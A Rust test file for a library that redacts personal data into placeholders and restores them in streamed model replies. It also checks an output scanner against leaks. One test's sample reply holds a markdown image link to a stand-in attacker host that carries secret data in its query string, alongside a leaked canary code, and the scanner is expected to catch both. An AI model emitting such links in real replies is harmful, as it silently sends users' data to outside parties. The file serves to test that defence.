//! Streamed replies: restoring chunk by chunk equals restoring the whole,
//! for every way of splitting it.

use promptsieve::{OutputContext, OutputStream, Scanner, StreamRestorer, Vault};
use proptest::prelude::*;

fn vault() -> Vault {
    let mut v = Vault::new();
    Scanner::new().redact_in(
        "Alice Martin (ana@example.org, +44 20 7946 0958) paid with 4111 1111 1111 1111; bob@example.org too",
        &mut v,
    );
    assert!(v.len() >= 4, "{v:?}");
    v
}

/// Pieces a reply is made of: placeholders in the forms models write them,
/// near misses, brackets, words and non-ASCII text.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("[EMAIL_1]".to_string()),
        Just("[ email_2 ]".to_string()),
        Just("[PERSON_1]".to_string()),
        Just("PHONE_1".to_string()),
        Just("CREDIT_CARD_1".to_string()),
        Just("EMAIL_12".to_string()),
        Just("[EMAIL_".to_string()),
        Just("[".to_string()),
        Just("]".to_string()),
        Just("_1".to_string()),
        Just("xEMAIL_1".to_string()),
        Just(" ".to_string()),
        Just("é".to_string()),
        Just("👩\u{200D}💻".to_string()),
        "[a-zA-Z0-9_ \\[\\]]{0,12}",
    ]
}

fn restore_in_chunks(v: &Vault, text: &str, cuts: &[usize]) -> String {
    let mut r = StreamRestorer::new(v);
    let mut out = String::new();
    let mut last = 0;
    for &c in cuts {
        out += &r.push(&text[last..c]);
        // Never more held back than a placeholder can be long.
        assert!(r.held() <= 56, "held {} of {text:?}", r.held());
        last = c;
    }
    out += &r.push(&text[last..]);
    out += &r.finish();
    out
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn chunks_restore_like_the_whole(pieces in prop::collection::vec(piece(), 0..24), seeds in prop::collection::vec(any::<usize>(), 0..12)) {
        let v = vault();
        let text: String = pieces.concat();
        let bounds: Vec<usize> = (0..=text.len()).filter(|&i| text.is_char_boundary(i)).collect();
        let mut cuts: Vec<usize> = seeds.iter().map(|s| bounds[s % bounds.len()]).collect();
        cuts.sort_unstable();
        prop_assert_eq!(restore_in_chunks(&v, &text, &cuts), v.restore(&text));
    }
}

#[test]
fn every_split_of_a_reply() {
    let v = vault();
    let reply = "Dear [PERSON_1], I wrote to [ email_1 ] and EMAIL_2; call PHONE_1 or [CREDIT_CARD_1]. [EMAIL_99] stays.";
    let whole = v.restore(reply);
    assert!(whole.contains("ana@example.org") && whole.contains("[EMAIL_99]"));
    for i in 0..=reply.len() {
        for j in i..=reply.len() {
            assert_eq!(restore_in_chunks(&v, reply, &[i, j]), whole, "split at {i}, {j}");
        }
    }
}

#[test]
fn output_stream_finds_what_the_whole_reply_has() {
    let s = Scanner::new();
    let ctx = OutputContext { canaries: vec!["zx-canary-91".into()], ..OutputContext::default() };
    let reply = format!(
        "Here you go. {} ![chart](https://collect.evil.example/p.png?d=SECRET_DATA_HERE) and the code zx-canary-91. {}",
        "Some filler text. ".repeat(20),
        "More text after. ".repeat(30)
    );
    let whole = s.scan_output(&reply, &ctx);
    assert!(whole.flagged);
    for step in [1, 3, 7, 64, 200] {
        let mut o = OutputStream::new(&s, &ctx);
        let mut seen = Vec::new();
        let mut stopped_at = None;
        let bounds: Vec<usize> =
            (0..=reply.len()).step_by(step).filter(|&i| reply.is_char_boundary(i)).collect();
        let mut last = 0;
        for &b in bounds.iter().chain([reply.len()].iter()) {
            seen.extend(o.push(&reply[last..b]));
            last = b;
            if o.should_stop() && stopped_at.is_none() {
                stopped_at = Some(b);
            }
        }
        // The link and the canary, split across chunks, were seen before the end.
        assert!(seen.iter().any(|f| f.rule == "output-canary"), "step {step}: {seen:?}");
        assert!(stopped_at.is_some_and(|b| b < reply.len()), "step {step}");
        assert_eq!(o.finish(), whole, "step {step}");
    }
}

#[test]
fn a_clean_reply_never_stops_the_stream() {
    let s = Scanner::new();
    let ctx = OutputContext { allowed_hosts: vec!["docs.example.com".into()], ..OutputContext::default() };
    let clean = "See https://docs.example.com/guide for details. ".repeat(20);
    for step in [1, 5, 11, 64] {
        let mut o = OutputStream::new(&s, &ctx);
        let mut i = 0;
        while i < clean.len() {
            let j = (i + step).min(clean.len());
            assert_eq!(o.push(&clean[i..j]), vec![], "step {step} at {i}");
            i = j;
        }
        assert!(!o.should_stop(), "step {step}");
        assert_eq!(o.finish(), s.scan_output(&clean, &ctx));
    }
}
